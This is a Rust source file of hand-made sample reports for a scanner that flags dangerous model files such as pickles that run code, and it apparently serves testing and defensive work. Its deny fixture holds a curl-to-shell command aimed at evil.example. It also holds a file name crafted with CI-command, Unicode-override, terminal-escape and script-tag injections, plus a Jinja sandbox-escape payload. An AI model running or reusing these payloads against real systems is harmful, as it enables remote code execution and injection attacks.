//! Reports made by hand, to look at outputs with.

use jiff::civil::Date;
use waag_evidence::exception::Exception;
use waag_evidence::finding::{Confidence, Finding, Location, Nature, Persona, Severity};
use waag_evidence::gathered::{SignatureEvidence, SignatureState};
use waag_evidence::{Evidence, Policy, Sha256Digest, Subject, TrustPolicy, evaluate};
use waag_formats::facts::TensorTotals;

use crate::report::{Analysis, ArtifactReport, Loading, Report};

const TODAY: Date = Date::constant(2026, 11, 22);

/// One report of each kind, with its name.
pub(super) fn all() -> Vec<(&'static str, Report)> {
    vec![
        ("deny", deny()),
        ("allow", allow()),
        ("inconclusive", inconclusive()),
        ("empty", empty()),
        ("collection", collection()),
        ("policy", policy()),
    ]
}

/// A model that runs code, beside files with names made to deceive.
pub(super) fn deny() -> Report {
    let nasty = "evil\n::set-output name=x::y\u{202e}gpj.\u{1b}[31m<script>alert(1)</script>.pkl";
    let findings = vec![
        Finding {
            count: 3,
            subject: None,
            evidence: Some("os.system('curl evil.example | sh')".into()),
            ..finding("code-execution", Severity::Critical, at("model.pt", &["archive/data.pkl"], 498))
        },
        Finding {
            message: format!("looks up {nasty}"),
            subject: None,
            evidence: Some("\u{1b}]0;owned\u{7} </pre><script>alert(2)</script>".into()),
            confidence: Confidence::Medium,
            ..finding("unlisted-callable", Severity::High, at(nasty, &["a\r\nb"], 7))
        },
        Finding {
            message: "the template reaches [past its sandbox](https://evil.example)".into(),
            subject: None,
            evidence: Some("{{ cycler.__init__.__globals__ }}".into()),
            location: Location { line: Some(12), ..Location::file("chat 100%.jinja") },
            ..finding("template-escape", Severity::High, Location::file(""))
        },
    ];
    let artifacts = vec![
        ArtifactReport { sha256: Some(Sha256Digest::new([0xab; 32])), ..torch("model.pt") },
        ArtifactReport {
            location: Location { members: vec!["archive/data.pkl".into()], ..Location::file("model.pt") },
            loading: Loading { inert: 451, unlisted: 0, dangerous: 1 },
            ..artifact("", "pickle", "Pickle", 61_440)
        },
        ArtifactReport {
            loading: Loading { inert: 0, unlisted: 1, dangerous: 0 },
            ..artifact(nasty, "pickle", "Pickle", 512)
        },
        artifact("chat 100%.jinja", "jinja", "Jinja template", 4_096),
        unknown("README.md", 2_048),
    ];
    report(artifacts, findings, Vec::new())
}

/// Twenty models in three folders, of which twelve run code.
pub(super) fn collection() -> Report {
    let name = |index: usize| format!("models/{}/{index:02}.pt", ["a", "b", "c"][index / 7]);
    let artifacts = (0..20).map(|index| torch(&name(index))).collect();
    let mut findings = Vec::new();
    for index in (0..14).filter(|index| index % 7 != 6) {
        let callable = if index < 3 { "posix.system" } else { "os.system" };
        findings.push(Finding {
            message: format!("loading runs a shell command: {callable}"),
            subject: Some(callable.into()),
            ..finding("code-execution", Severity::Critical, at(&name(index), &["archive/data.pkl"], 498))
        });
    }
    findings.push(Finding {
        nature: Nature::Incomplete,
        message: "the archive is encrypted".into(),
        ..finding("incomplete-analysis", Severity::Medium, Location::file(name(19)))
    });
    report(artifacts, findings, Vec::new())
}

/// A clean model.
pub(super) fn allow() -> Report {
    let model = ArtifactReport {
        properties: vec![("version".into(), "1".into()), ("framework".into(), "pt".into())],
        tensors: TensorTotals { tensors: 148, parameters: 124_439_808, bytes: 497_759_232 },
        dtypes: vec![("F32".into(), 124_000_000), ("I64".into(), 439_808)],
        ..artifact("gpt2/model.safetensors", "safetensors", "Safetensors", 497_774_208)
    };
    report(vec![model], Vec::new(), Vec::new())
}

/// A folder of which not everything could be read, with exceptions of every kind.
pub(super) fn inconclusive() -> Report {
    let unread = Finding {
        nature: Nature::Incomplete,
        message: "the archive is encrypted".into(),
        next_step: "Ask for it unencrypted, or unpack it and check what comes out.".into(),
        ..finding("incomplete-analysis", Severity::Medium, Location::file("models/weights.7z"))
    };
    let excepted = finding("unlisted-callable", Severity::High, at("models/ours.pkl", &[], 16));
    let low = Finding {
        message: "2 bytes follow the end".into(),
        next_step: "Write the file again with its own tool.".into(),
        ..finding("hidden-content", Severity::Low, at("models/weights.npy", &[], 1 << 20))
    };
    let mut artifacts = vec![
        ArtifactReport {
            loading: Loading { inert: 12, unlisted: 1, dangerous: 0 },
            ..artifact("models/ours.pkl", "pickle", "Pickle", 900)
        },
        ArtifactReport {
            analysis: Analysis::Partial,
            ..artifact("models/weights.7z", "seven-zip", "7z archive", 9_000_000)
        },
        artifact("models/weights.npy", "npy", "NumPy array", 1_048_578),
    ];
    artifacts.extend((1..=4).map(|index| torch(&format!("models/shard-{index}.pt"))));
    artifacts.extend((1..=9).map(|index| unknown(&format!("models/note-{index}.txt"), 100)));
    let exceptions = vec![
        exception("unlisted-callable", "models/ours.pkl", "our own class, reviewed", "2027-01-31"),
        exception("hidden-content", "models/weights.npy", "known", "2026-01-31"),
        exception("code-execution", "models/old.pkl", "gone since", "2027-01-31"),
    ];
    report(artifacts, vec![excepted, unread, low], exceptions)
}

/// A folder with nothing in it.
pub(super) fn empty() -> Report {
    report(Vec::new(), Vec::new(), Vec::new())
}

/// A model that is not what a policy asks for, with an exception for one of its controls and one for none.
pub(super) fn policy() -> Report {
    let text =
        "controls = { signature = 'deny', provenance = 'inconclusive', model-card = 'deny', safe-format = 'deny' }
        [[rule]]
        name = 'small'
        when = 'subject.size < 1000'
        then = 'require'
        reason = 'we serve small models only'
        next = 'take a smaller one'
        [[exception]]
        control = 'model-card'
        path = 'gpt2'
        reason = 'an old model'
        until = '2027-01-31'
        [[exception]]
        control = 'seeds-set'
        path = 'other'
        reason = 'no longer there'
        until = '2027-01-31'";
    let absent = SignatureState::Absent { looked_for: vec!["gpt2/model.sig".into(), "gpt2.sig".into()] };
    let evidence = Evidence {
        signatures: vec![SignatureEvidence { place: "gpt2".into(), declared: false, sha256: None, state: absent }],
        ..Evidence::default()
    };
    judged("gpt2", allow().artifacts, evidence, toml::from_str(text).unwrap())
}

fn report(artifacts: Vec<ArtifactReport>, findings: Vec<Finding>, exceptions: Vec<Exception>) -> Report {
    let policy = Policy { exceptions, ..Policy::default() };
    judged(".", artifacts, Evidence { findings, ..Evidence::default() }, policy)
}

fn judged(path: &str, artifacts: Vec<ArtifactReport>, evidence: Evidence, policy: Policy) -> Report {
    let subject = crate::evidence::subject(&[path.into()], &artifacts);
    let subject = Subject { is_file: false, ..subject };
    let evidence = Evidence { files: crate::evidence::files(&artifacts), ..evidence };
    let verdict = evaluate(&subject, &evidence, &policy, TODAY);
    let digest = policy.digest(&TrustPolicy::default());
    let (evidence, findings) = crate::evidence::split(evidence);
    Report {
        paths: vec![path.into()],
        artifacts,
        findings,
        verdict,
        exceptions: policy.exceptions,
        policy: digest,
        subject,
        evidence,
        reused: 0,
        is_code: false,
    }
}

fn finding(rule: &str, severity: Severity, location: Location) -> Finding {
    Finding {
        rule: rule.into(),
        nature: Nature::Risk,
        severity,
        confidence: Confidence::High,
        persona: Persona::Everyone,
        location,
        message: "loading runs a shell command".into(),
        subject: None,
        evidence: None,
        next_step: "Do not load this file. Ask its publisher for safetensors, or convert it where nothing can be lost."
            .into(),
        count: 1,
    }
}

fn at(file: &str, members: &[&str], offset: u64) -> Location {
    let members = members.iter().map(|&member| member.into()).collect();
    Location { members, offset: Some(offset), ..Location::file(file) }
}

fn exception(rule: &str, path: &str, reason: &str, until: &str) -> Exception {
    Exception {
        rule: Some(rule.into()),
        control: None,
        path: path.into(),
        subject: None,
        reason: reason.into(),
        until: until.parse().unwrap(),
    }
}

fn torch(file: &str) -> ArtifactReport {
    ArtifactReport {
        properties: vec![("version".into(), "3".into()), ("framework".into(), "PyTorch".into())],
        tensors: TensorTotals { tensors: 148, parameters: 124_439_808, bytes: 248_879_616 },
        dtypes: vec![("float16".into(), 124_000_000), ("int64".into(), 439_808)],
        ..artifact(file, "torch-zip", "PyTorch zip", 249_004_032)
    }
}

fn artifact(file: &str, format: &'static str, title: &'static str, size: u64) -> ArtifactReport {
    ArtifactReport {
        location: Location::file(file),
        size,
        format: Some(format),
        title,
        sha256: None,
        analysis: Analysis::Complete,
        properties: Vec::new(),
        tensors: TensorTotals::default(),
        dtypes: Vec::new(),
        loading: Loading::default(),
    }
}

fn unknown(file: &str, size: u64) -> ArtifactReport {
    ArtifactReport { format: None, analysis: Analysis::NotAnalysed, ..artifact(file, "", "unknown", size) }
}
